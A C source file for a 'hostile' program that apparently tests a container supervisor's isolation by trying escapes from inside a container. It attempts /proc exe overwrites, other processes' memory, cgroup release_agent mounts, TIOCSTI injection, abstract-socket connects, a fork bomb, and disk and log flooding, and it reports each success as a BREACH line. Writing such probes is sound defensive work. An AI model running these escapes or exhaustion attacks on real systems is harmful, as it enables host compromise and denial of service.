/* hostile WORD [ARG...]: a static program that attacks from inside a container. What would be an escape is a line "BREACH ...";
 * what it merely saw, and so shows that the attack was under way, is "seen ...". What it got hold of it leaves as it is: to be
 * sure, it writes back a byte that it read.
 *
 *   exe                  for ever: hold each process' /proc/PID/exe, and open it for writing when it does not run any more
 *   snoop                for ever: open /proc/PID/{mem,root,cwd,fd/N,exe} of who is not yet, or not, of the container
 *   flip A B             for ever: exchange two names
 *   where                is the working directory below the root?
 *   sweep DIR            open every file below for writing; the names of those that opened
 *   agents WHICH|all     mount each cgroup v1 hierarchy, here and in new namespaces; open what would let it out
 *   cgroups DIR          open for writing, make directories, move away, below DIR
 *   abstract             connect to every abstract socket
 *   inject               push a character into the terminal of its standard input
 *   bomb fds fill DIR flood    take all there is of processes, files, disk, and the log
 *   crash                dump a core
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *what, const char *about) {
        printf("%s %s\n", what, about);
        (void)fflush(stdout);
}

/* A host's program: nothing of that name is in the layers of these tests. */
static bool is_foreign(const char *name) {
        return strstr(name, "ctrsup-") || strstr(name, "ctrsupd") || strstr(name, "naive") || strcmp(name, "/") == 0;
}

static const char *link_of(const char *path, char text[PATH_MAX]) {
        ssize_t n = readlink(path, text, PATH_MAX - 1);

        text[n > 0 ? n : 0] = '\0';
        return text;
}

/* -- exe -- */

/* Whoever runs it keeps it from being written to: wait for the end of the last, in a process of its own. */
static void wait_and_write(const char *path, const char *name) {
        char first;

        for (int i = 0; i < 100000; i++) {
                int to = open(path, O_RDWR);
                if (to >= 0 && pread(to, &first, 1, 0) == 1 && pwrite(to, &first, 1, 0) == 1) {
                        say("BREACH writes to", name);
                        _exit(0);
                }
                if (errno != ETXTBSY) {
                        say("refused:", strerror(errno));
                        _exit(0);
                }
                (void)usleep(100);
        }
        _exit(0);
}

static void hold_exe(int pid) {
        static int held;
        char path[64], name[PATH_MAX];

        (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        int fd = open(path, O_PATH);
        if (fd < 0)
                return;
        (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        if (is_foreign(link_of(path, name)) && held < 4) {
                say("seen", name);
                held++;
                if (fork() == 0)
                        wait_and_write(path, name);
        }
        (void)close(fd);
}

static void for_each_process(void (*visit)(int pid)) {
        for (;;) {
                DIR *d = opendir("/proc");
                for (struct dirent *e; d && (e = readdir(d));) {
                        int pid = atoi(e->d_name);
                        if (pid > 0 && pid != getpid())
                                visit(pid);
                }
                if (d)
                        (void)closedir(d);
        }
}

static int do_exe(char **a) {
        (void)a;
        say("ready", "exe");
        for_each_process(hold_exe);
        return 0;
}

/* -- snoop -- */

/* What it has open, other than 0 to 2 and what the programs of these tests open themselves. */
static void snoop_fds(int pid) {
        char path[PATH_MAX], name[PATH_MAX];

        (void)snprintf(path, sizeof(path), "/proc/%d/fd", pid);
        DIR *d = opendir(path);
        for (struct dirent *e; d && (e = readdir(d));) {
                if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
                        continue;
                (void)snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
                int fd = open(path, O_PATH);
                if (fd >= 0)
                        say("BREACH holds", link_of(path, name));
                (void)close(fd);
        }
        if (d)
                (void)closedir(d);
}

static void snoop(int pid) {
        char path[64], name[PATH_MAX];
        struct stat mine, its;

        (void)snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        int mem = open(path, O_RDWR);
        (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        if (is_foreign(link_of(path, name)))
                say(mem >= 0 ? "BREACH has the memory of" : "BREACH knows", name);
        else if (name[0] == '\0')
                say("seen", "one that cannot be looked at");
        (void)close(mem);
        (void)snprintf(path, sizeof(path), "/proc/%d/root", pid);
        if (stat("/", &mine) == 0 && stat(path, &its) == 0 && (mine.st_dev != its.st_dev || mine.st_ino != its.st_ino))
                say("BREACH", "another root");
        snoop_fds(pid);
}

static int do_snoop(char **a) {
        (void)a;
        say("ready", "snoop");
        for_each_process(snoop);
        return 0;
}

/* -- flip, where -- */

static int do_flip(char **a) {
        say("ready", "flip");
        for (;;)
                if (renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) < 0) {
                        perror("flip");
                        return 1;
                }
}

static int do_where(char **a) {
        char name[PATH_MAX];
        struct stat root, here, up;
        int fd = open(".", O_PATH);

        (void)a;
        for (int i = 0; fd >= 0 && i < 64; i++) {
                int parent = openat(fd, "..", O_PATH);
                if (parent < 0 || fstat(fd, &here) < 0 || fstat(parent, &up) < 0)
                        break;
                (void)close(fd);
                fd = parent;
                if (here.st_ino == up.st_ino && here.st_dev == up.st_dev)
                        break;
        }
        if (fd < 0 || fstat(fd, &here) < 0 || stat("/", &root) < 0)
                return 1;
        bool outside = here.st_ino != root.st_ino || here.st_dev != root.st_dev;
        say(outside ? "BREACH outside:" : "inside", getcwd(name, sizeof(name)) ? name : "nowhere");
        return 0;
}

/* -- sweep -- */

static int try_write(const char *path, const struct stat *st, int type, struct FTW *f) {
        (void)f;
        if (type == FTW_F && S_ISREG(st->st_mode)) {
                int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
                if (fd >= 0) {
                        say("open", path);
                        (void)close(fd);
                }
        }
        return 0;
}

static int do_sweep(char **a) {
        (void)nftw(a[0], try_write, 32, FTW_PHYS);
        say("swept", a[0]);
        return 0;
}

/* -- cgroups -- */

static void open_for_writing(const char *dir, const char *file) {
        char path[PATH_MAX];

        (void)snprintf(path, sizeof(path), "%s/%s", dir, file);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
                say("BREACH opened", path);
                (void)close(fd);
        }
}

static void try_agent(const char *hierarchy, const char *where) {
        if (mount("cgroup", "/tmp/agents", "cgroup", 0, hierarchy) < 0)
                return;
        printf("seen %s mounted, %s\n", hierarchy, where);
        open_for_writing("/tmp/agents", "release_agent");
        open_for_writing("/tmp/agents", "notify_on_release");
        open_for_writing("/tmp/agents", "cgroup.procs");
        open_for_writing("/tmp/agents", "tasks");
        if (mkdir("/tmp/agents/made", 0755) == 0) {
                say("BREACH made a group in", hierarchy);
                (void)rmdir("/tmp/agents/made");
        }
        (void)umount("/tmp/agents");
}

static void try_agents(const char *which, const char *where) {
        static const char *const hierarchies[] = { "cpuset",  "cpu",      "cpuacct",    "blkio",   "memory", "devices", "freezer",
                                                   "net_cls", "net_prio", "perf_event", "hugetlb", "pids",   "none,name=attack" };

        (void)mkdir("/tmp/agents", 0755);
        if (strcmp(which, "all") != 0)
                try_agent(which, where);
        else
                for (size_t i = 0; i < sizeof(hierarchies) / sizeof(*hierarchies); i++)
                        try_agent(hierarchies[i], where);
}

static void map_root(unsigned uid) {
        char text[64];
        int fd = open("/proc/self/setgroups", O_WRONLY);

        (void)!write(fd, "deny", 4);
        (void)close(fd);
        fd = open("/proc/self/uid_map", O_WRONLY);
        (void)snprintf(text, sizeof(text), "0 %u 1", uid);
        (void)!write(fd, text, strlen(text));
        (void)close(fd);
        fd = open("/proc/self/gid_map", O_WRONLY);
        (void)!write(fd, text, strlen(text));
        (void)close(fd);
}

static int do_agents(char **a) {
        unsigned uid = getuid();

        try_agents(a[0], "as we are");
        if (unshare(CLONE_NEWUSER) == 0) {
                map_root(uid);
                say("seen", "a user namespace in it");
                if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) == 0)
                        try_agents(a[0], "in new namespaces");
        }
        say("tried", "agents");
        return 0;
}

static int do_cgroups(char **a) {
        char path[PATH_MAX];
        DIR *d = opendir(a[0]);

        for (struct dirent *e; d && (e = readdir(d));)
                if (e->d_type == DT_REG)
                        open_for_writing(a[0], e->d_name);
        if (d)
                (void)closedir(d);
        (void)snprintf(path, sizeof(path), "%s/made", a[0]);
        if (mkdir(path, 0755) == 0) {
                say("BREACH made", path);
                (void)rmdir(path);
        }
        (void)snprintf(path, sizeof(path), "%s/..", a[0]);
        open_for_writing(path, "cgroup.procs");
        say("tried", a[0]);
        return 0;
}

/* -- sockets and terminals -- */

static int do_abstract(char **a) {
        char line[512];
        FILE *f = fopen("/proc/net/unix", "re");
        int n = 0;

        (void)a;
        while (f && fgets(line, sizeof(line), f)) {
                char *at = strchr(line, '@');
                struct sockaddr_un to = { .sun_family = AF_UNIX };
                if (!at)
                        continue;
                at[strcspn(at, "\n")] = '\0';
                n++;
                (void)snprintf(to.sun_path + 1, sizeof(to.sun_path) - 1, "%s", at + 1);
                int s = socket(AF_UNIX, SOCK_STREAM, 0);
                if (connect(s, (struct sockaddr *)&to, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(at))) == 0)
                        say("connected", at + 1);
                (void)close(s);
        }
        printf("seen %d abstract\n", n);
        return 0;
}

static int do_inject(char **a) {
        (void)a;
        for (int i = 0; i < 10; i++) { /* any of what it has; a controlling terminal too */
                int fd = i < 9 ? i : open("/dev/tty", O_RDWR);
                if (ioctl(fd, TIOCSTI, "!") == 0)
                        say("seen", "injected");
        }
        say("tried", "inject");
        return 0;
}

/* -- taking all -- */

static int rest(void) {
        (void)fflush(stdout);
        for (;;)
                (void)pause();
        return 0;
}

static int do_bomb(char **a) {
        (void)a;
        say("ready", "bomb");
        (void)signal(SIGTERM, SIG_IGN);
        for (;;)
                (void)fork();
        return 0;
}

static int do_fds(char **a) {
        struct rlimit all;
        long n = 0;

        (void)a;
        (void)getrlimit(RLIMIT_NOFILE, &all);
        all.rlim_cur = all.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &all);
        while (open("/dev/null", O_RDONLY) >= 0)
                n++;
        printf("ready %ld fds: %s\n", n, strerror(errno));
        return rest();
}

static int do_fill(char **a) {
        static char block[1 << 20];
        char path[PATH_MAX];
        long n = 0;

        (void)snprintf(path, sizeof(path), "%s/fill", a[0]);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        while (write(fd, block, sizeof(block)) > 0)
                n++;
        printf("ready %ld MiB: %s\n", n, strerror(errno));
        return rest();
}

static int do_flood(char **a) {
        static char block[1 << 16];

        (void)a;
        memset(block, 'x', sizeof(block));
        for (size_t i = 0; i < sizeof(block); i += 512)
                block[i] = (char)(i >> 9);
        for (;;)
                (void)!write(STDOUT_FILENO, block, sizeof(block));
        return 0;
}

static int do_crash(char **a) {
        (void)a;
        (void)raise(SIGSEGV);
        return 0;
}

static const struct {
        const char *word;
        int args;
        int (*run)(char **a);
} words[] = {
        { "exe", 0, do_exe },       { "snoop", 0, do_snoop },   { "flip", 2, do_flip },       { "where", 0, do_where },
        { "sweep", 1, do_sweep },   { "agents", 1, do_agents }, { "cgroups", 1, do_cgroups }, { "abstract", 0, do_abstract },
        { "inject", 0, do_inject }, { "bomb", 0, do_bomb },     { "fds", 0, do_fds },         { "fill", 1, do_fill },
        { "flood", 0, do_flood },   { "crash", 0, do_crash },
};

int main(int argc, char **argv) {
        for (size_t i = 0; argc > 1 && i < sizeof(words) / sizeof(*words); i++)
                if (strcmp(words[i].word, argv[1]) == 0 && argc == words[i].args + 2)
                        return words[i].run(argv + 2);
        fprintf(stderr, "hostile: what is %s?\n", argc > 1 ? argv[1] : "to be done");
        return 64;
}
